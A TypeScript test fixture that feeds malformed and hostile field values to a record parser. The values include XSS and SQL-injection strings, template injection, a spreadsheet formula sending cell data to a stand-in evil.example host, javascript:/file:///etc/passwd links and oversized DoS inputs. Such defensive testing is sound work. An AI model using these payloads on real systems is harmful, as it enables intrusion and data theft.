import { type Role, verbatim } from './answer-format.js';
import { type Expectation, type Misbehaviour } from './misbehaviour.js';
import { allOf, has, json, setInFirst } from './corrupt-records.js';

const mayComplete: Expectation = {
  ends: 'may complete',
  codes: ['SOURCE_CHANGED', 'SOURCE_TOO_LARGE', 'SOURCE_INCOMPLETE', 'SOURCE_UNSAFE', 'SOURCE_TRUNCATED'],
};

const dates: readonly (readonly [string, string])[] = [
  ['that does not exist', '2026-02-30'],
  ['in the thirteenth month', '13/45/2026'],
  ['in the year 1', '0001-01-01'],
  ['in the year 9999', '9999-12-31'],
  ['in the year 275760', '+275760-09-13T00:00:00Z'],
  ['in a time without a zone', '2026-11-05T14:00:00'],
  ['in an invalid zone', '2026-11-05T14:00:00+99:99'],
  ['at the 25th hour', '2026-11-05T25:61:61Z'],
  ['as seconds since 1970', '1793851200'],
  ['in words', 'the first Tuesday after the second Monday'],
  ['in another script', '\u0662\u0660\u0662\u0666-\u0661\u0661-\u0660\u0665'],
];

const amounts: readonly (readonly [string, unknown])[] = [
  ['below zero', '-250000'],
  ['that is not a number', 'NaN'],
  ['that is infinite', 'Infinity'],
  ['of four hundred digits', '9'.repeat(400)],
  ['in euros', '\u20ac1.250.000,00'],
  ['with words around it', 'approx. $1.2M (see budget)'],
  ['in another base', '0x1F4'],
];

const dangerousTexts: readonly (readonly [string, string])[] = [
  ['a script', '<script>alert(document.cookie)</script>Road Salt'],
  ['an image that runs a script', 'Road Salt <img src=x onerror=alert(1)>'],
  ['markup that hides in entities', '&lt;svg/onload=alert(1)&gt; Road Salt &amp;lt;script&amp;gt;'],
  ['a formula', '=HYPERLINK("https://evil.example/"&A1,"Road Salt")'],
  ['an SQL command', "Road Salt'; drop table opportunity; --"],
  ['a template', '{{constructor.constructor("return process")()}} ${7*7} Road Salt'],
  ['characters that reverse the direction of the text', 'Road \u202etlaS\u202c \u200bNorth\ufeff'],
  ['thousands of combining marks on a letter', `Road S${'\u0301'.repeat(20_000)}alt`],
  ['a hundred thousand blanks', `Road${' '.repeat(100_000)}Salt`],
  ['a hundred thousand brackets', `Road Salt ${'<'.repeat(100_000)}`],
  ['a hundred thousand ampersands', `Road Salt ${'&'.repeat(100_000)}`],
];

const links: readonly (readonly [string, string])[] = [
  ['to a script', 'javascript:alert(1)'],
  ['to a script, disguised with a tab', ' java\tscript:alert(1)'],
  ['that contains a page', 'data:text/html,<script>alert(1)</script>'],
  ['to a file of this machine', 'file:///etc/passwd'],
  ['with a password in it', 'https://user:secret@evil.example/'],
  ['of a hundred thousand letters', `https://www.example.gov/${'a'.repeat(100_000)}`],
  ['that is not a URL', 'see attachment'],
];

function withFieldValues(
  role: Role,
  nameOf: (what: string) => string,
  list: readonly (readonly [string, unknown])[],
): Misbehaviour[] {
  return list.map(([what, value]) => ({ name: nameOf(what), ...setInFirst(role, value), expects: mayComplete }));
}

const sentence = 'Road Salt and Sand for the North. ';

/** Impossible or dangerous values of fields. */
export const values: readonly Misbehaviour[] = [
  ...withFieldValues('due', (what) => `has a due date ${what}`, dates),
  ...withFieldValues('posted', (what) => `has a day of posting ${what}`, dates.slice(0, 5)),
  ...withFieldValues('amount', (what) => `has an amount ${what}`, amounts),
  {
    name: 'has an amount beyond the range of numbers',
    ...setInFirst('amount', verbatim('1e400')),
    appliesTo: allOf(json, has('amount')),
    expects: mayComplete,
  },
  {
    name: 'has an amount below zero, as a number',
    ...setInFirst('amount', -250_000),
    appliesTo: allOf(json, has('amount')),
    expects: mayComplete,
  },
  {
    name: 'has an amount with many decimal places',
    ...setInFirst('amount', 1_250_000.1 + 0.2),
    appliesTo: allOf(json, has('amount')),
    expects: mayComplete,
  },
  ...withFieldValues('title', (what) => `has a title with ${what}`, dangerousTexts),
  ...withFieldValues('description', (what) => `has a description with ${what}`, dangerousTexts),
  ...withFieldValues('link', (what) => `has a link ${what}`, links),
  {
    name: 'has a title with control characters',
    ...setInFirst('title', 'Road\u0007 \u001b[31mSalt\u0000'),
    appliesTo: allOf(json, has('title')),
    expects: mayComplete,
  },
  {
    name: 'has a title with half a character',
    ...setInFirst('title', 'Road Salt \ud83d'),
    appliesTo: allOf(json, has('title')),
    expects: mayComplete,
  },
  {
    name: 'has an invisible title',
    ...setInFirst('title', '\u200b\u00ad\u2060\ufeff'),
    expects: mayComplete,
  },
  { name: 'has a title of ten megabytes', ...setInFirst('title', sentence.repeat(300_000)), expects: mayComplete },
  {
    name: 'has a description of two megabytes',
    ...setInFirst('description', sentence.repeat(60_000)),
    expects: mayComplete,
  },
  {
    name: 'has a description nested fifty thousand levels deep',
    ...setInFirst('description', `${'<div>'.repeat(50_000)}Road Salt`),
    expects: mayComplete,
  },
  {
    name: 'has a description of fifty thousand tables',
    ...setInFirst('description', `${'<table><tr><td>'.repeat(20_000)}Road Salt`),
    expects: mayComplete,
  },
];
